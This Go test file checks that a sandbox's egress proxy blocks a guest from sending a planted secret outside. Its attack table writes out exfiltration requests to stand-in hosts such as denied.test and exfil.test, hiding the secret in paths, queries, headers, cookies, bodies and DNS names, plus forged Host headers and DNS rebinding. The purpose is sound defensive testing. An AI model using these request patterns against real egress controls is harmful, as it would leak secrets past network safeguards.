// SPDX-License-Identifier: Apache-2.0

package escape

import (
	"fmt"
	"strings"
	"testing"

	"botbottle.dev/bottle-operator/api/v1alpha1"
)

// standingRules apply throughout: attacks use their names in forged Host headers, and
// one allowed name resolves to an address on the LAN.
//
// There are no names that resolve to metadata, loopback or link-local addresses or to
// the gateway. No rule can open these, so there is no barrier to remove.
// internal/egress and internal/bundleproxy test that.
var standingRules = []v1alpha1.EgressRule{"allowed.test", "allowed.test:80", "rebind-lan.test:80"}

// ruleAttack is an attack that a rule would let through. In sent, marker stands for
// the planted secret.
type ruleAttack struct {
	name string
	// guard is the rule whose absence stops the attack.
	guard v1alpha1.EgressRule
	// sent is what the guest sends to the bundle. After a CONNECT, it sends the
	// secret through the tunnel.
	sent string
}

const marker = "MARKER"

var ruleAttacks = []ruleAttack{
	{"a host that is not allowed, CONNECT", "denied.test:443", connect("denied.test:443", "denied.test:443")},
	{"a host that is not allowed, plain HTTP", "denied.test:80", get("http://denied.test/"+marker, "denied.test")},
	{"a host that is not allowed, CONNECT with an allowed Host header", "denied.test:443", connect("denied.test:443", "allowed.test:443")},
	{"a host that is not allowed, plain HTTP with an allowed Host header", "denied.test:80", get("http://denied.test/"+marker, "allowed.test")},
	{"a port that is not allowed of a host that is", "allowed.test:8080", get("http://allowed.test:8080/"+marker, "allowed.test")},
	{"an IP literal, CONNECT", "203.0.113.10:443", connect("203.0.113.10:443", "203.0.113.10:443")},
	{"an IP literal, CONNECT with an allowed Host header", "203.0.113.10:443", connect("203.0.113.10:443", "allowed.test:443")},
	{"an IP literal, plain HTTP", "203.0.113.10:80", get("http://203.0.113.10/"+marker, "203.0.113.10")},
	{"an IP literal, plain HTTP with an allowed Host header", "203.0.113.10:80", get("http://203.0.113.10/"+marker, "allowed.test")},
	{"exfiltration by path", "denied.test:80", get("http://denied.test/a/"+marker+"/b", "denied.test")},
	{"exfiltration by query", "denied.test:80", get("http://denied.test/?q="+marker, "denied.test")},
	{"exfiltration by header", "denied.test:80", get("http://denied.test/", "denied.test", "X-Data: "+marker, "Cookie: c="+marker)},
	{"exfiltration by body", "denied.test:80", post("http://denied.test/", "denied.test", marker)},
	{"exfiltration by a crafted DNS name, CONNECT", "*.exfil.test:443", connect(marker+".exfil.test:443", marker+".exfil.test:443")},
	{"exfiltration by a crafted DNS name, plain HTTP", "*.exfil.test:80", get("http://"+marker+".exfil.test/", marker+".exfil.test")},
	{"DNS rebinding: an allowed name that resolves to the LAN", "10.77.0.1:80", get("http://rebind-lan.test/"+marker, "rebind-lan.test")},
}

func request(line, host, body string, headers ...string) string {
	head := append([]string{line + " HTTP/1.1", "Host: " + host, "Connection: close"}, headers...)
	return strings.Join(head, `\r\n`) + `\r\n\r\n` + body
}

func get(url, host string, headers ...string) string {
	return request("GET "+url, host, "", headers...)
}
func connect(authority, host string) string { return request("CONNECT "+authority, host, "") }
func post(url, host, body string) string {
	// The secret is longer than the marker that stands for it.
	return request("POST "+url, host, body, fmt.Sprintf("Content-Length: %d", len(plant(body, "00000000", 0))))
}

// plant replaces the marker with a secret.
func plant(text, run string, i int) string {
	return strings.ReplaceAll(text, marker, fmt.Sprintf("s3cr3t%sn%02dz", run, i))
}

func testRules(t *testing.T, s *site) {
	t.Run("control, allowed", func(t *testing.T) {
		guards := standingRules
		seen := map[v1alpha1.EgressRule]bool{}
		for _, a := range ruleAttacks {
			if !seen[a.guard] {
				guards = append(guards, a.guard)
			}
			seen[a.guard] = true
		}
		for i, o := range s.tryRules(t, guards) {
			if !o.reached {
				t.Errorf("control: %s, with the rule %s: not reached, so its absence is not tested; the guest printed %q", ruleAttacks[i].name, ruleAttacks[i].guard, o.output)
			}
		}
	})
	t.Run("denied", func(t *testing.T) {
		for i, o := range s.tryRules(t, standingRules) {
			a := ruleAttacks[i]
			if o.reached {
				t.Errorf("ESCAPE: %s, from the guest of Bottle %s: reached: %s; want it stopped by the absence of the bundle rule %s", a.name, s.ruled.Name, o.evidence, a.guard)
			} else if status, _, _ := strings.Cut(o.output, "\n"); !strings.Contains(status, " 403 ") {
				t.Errorf("%s: the bundle answered %q, want 403", a.name, o.output)
			}
		}
	})
}

// tryRules applies rules, runs all attacks in the guest and returns how they ended. An
// attack succeeded if its secret arrived in the outside world.
func (s *site) tryRules(t *testing.T, rules []v1alpha1.EgressRule) []outcome {
	t.Helper()
	s.Change(t, s.ruled, func() { s.ruled.Spec.Egress = &v1alpha1.Egress{Allow: rules, Rules: openedRules()} })
	// The host of each rule for requests counts, too.
	want := fmt.Sprintf(`"event":"rules","rules":%d,`, len(rules)+len(openedRules()))
	s.Eventually(t, fmt.Sprintf("the bundle to have read %d rules", len(rules)), func() (string, bool) {
		last := ""
		for line := range strings.Lines(s.BundleLog(t, s.ruled)) {
			if strings.Contains(line, `"event":"rules"`) {
				last = line
			}
		}
		return last, strings.Contains(last, want)
	})
	run := nonce()
	batch := make([]attempt, len(ruleAttacks))
	for i, a := range ruleAttacks {
		secret := plant(marker, run, i)
		sh := fmt.Sprintf("proxy '%s'", plant(a.sent, run, i))
		if strings.HasPrefix(a.sent, "CONNECT ") {
			sh = fmt.Sprintf("tunnel '%s' '%s'", plant(a.sent, run, i), get("/"+secret, "x"))
		}
		batch[i] = attempt{name: a.name, marker: secret, sh: sh, answered: "the outside world"}
	}
	outputs := parse(t, s.Guest(t, s.ruled, "sh", "-c", script(batch, s.attackTimeout, bundleIP(s.ruled))), len(batch))
	return judge(batch, outputs, s.world(t))
}
